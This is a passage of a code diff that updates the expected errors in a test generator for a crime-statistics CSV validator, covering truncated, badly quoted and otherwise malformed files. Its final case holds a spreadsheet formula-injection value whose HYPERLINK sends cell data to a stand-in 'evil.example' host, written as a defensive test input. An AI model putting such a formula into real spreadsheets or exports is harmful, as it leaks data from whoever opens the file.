@@ -59,13 +59,13 @@ def case(name, service, data, exit_code, line, column, msg):
 
 # ---- police --------------------------------------------------------------
 ok = rows("police", 4)
-case("police_truncated.csv", "police", text("police", ok)[:-25], 65, "5", "-",
-     "fields where the header has 7")
+case("police_truncated.csv", "police", text("police", ok)[:-25], 65, "5", "fact_ref",
+     "the file was cut inside its last record: 2 fields where the header has 7")
 case("police_truncated_in_quote.csv", "police",
-     text("police", ok + ['2019-04-01;"PV-19-0005;ANT;THB;SEX;1;1']), 65, "6", "-",
+     text("police", ok + ['2019-04-01;"PV-19-0005;ANT;THB;SEX;1;1']), 65, "6", "fact_ref",
      "unterminated quoted field at the end of the file")
 case("police_unterminated_quote.csv", "police",
-     text("police", ok[:2] + ['2019-04-01;PV-19-0009;"ANT;THB;SEX;1;1'] + ok[2:]), 65, "4", "-",
+     text("police", ok[:2] + ['2019-04-01;PV-19-0009;"ANT;THB;SEX;1;1'] + ok[2:]), 65, "4", "district",
      "unterminated quoted field")
 case("police_quote_in_field.csv", "police",
      text("police", ok[:2] + ['2019-04-01;PV-19-00"9;ANT;THB;SEX;1;1'] + ok[2:]), 65, "4", "-",
@@ -132,8 +132,8 @@ case("police_duplicate_column.csv", "police",
 okp = rows("prosecution", 4)
 cp = lambda s: s.encode("cp1252")
 case("prosecution_truncated.csv", "prosecution",
-     cp(text("prosecution", okp[:3] + ["PR-19-0009;2019-01-15;Liège;TEH;"], final=False)), 65, "5", "-",
-     "fields where the header has 8")
+     cp(text("prosecution", okp[:3] + ["PR-19-0009;2019-01-15;Liège;TEH;"], final=False)), 65, "5",
+     "exploitation_form", "the file was cut inside its last record: 5 fields where the header has 8")
 case("prosecution_nul.csv", "prosecution", cp(text("prosecution", okp)) + b"\x00\x00\x00\x00", 65, "6", "-", "NUL byte")
 case("prosecution_negative_defendants.csv", "prosecution",
      cp(text("prosecution", okp[:2] + ["PR-19-0009;2019-01-15;Liège;TEH;LAB;-1;SUMMONS;2019-03-01"])),
@@ -216,7 +216,7 @@ case("convictions_future_judgment.csv", "convictions",
 case("convictions_as_immigration.csv", "convictions", text("immigration", rows("immigration", 3)), 65, "1", "-",
      "missing required column bulletin_ref")
 case("convictions_truncated_in_quote.csv", "convictions",
-     cp(text("convictions", okc[:3] + ['CJ-9;"2019-03-01;2019-09-01;BRU;TEH'], final=False)), 65, "5", "-",
+     cp(text("convictions", okc[:3] + ['CJ-9;"2019-03-01;2019-09-01;BRU;TEH'], final=False)), 65, "5", "judgment_date",
      "unterminated quoted field at the end of the file")
 case("convictions_formula_ref.csv", "convictions",
      cp(text("convictions", okc[:2] + ['"=HYPERLINK(""http://evil.example/""&B2;""x"")";2019-03-01;2019-09-01;BRU;THB;'
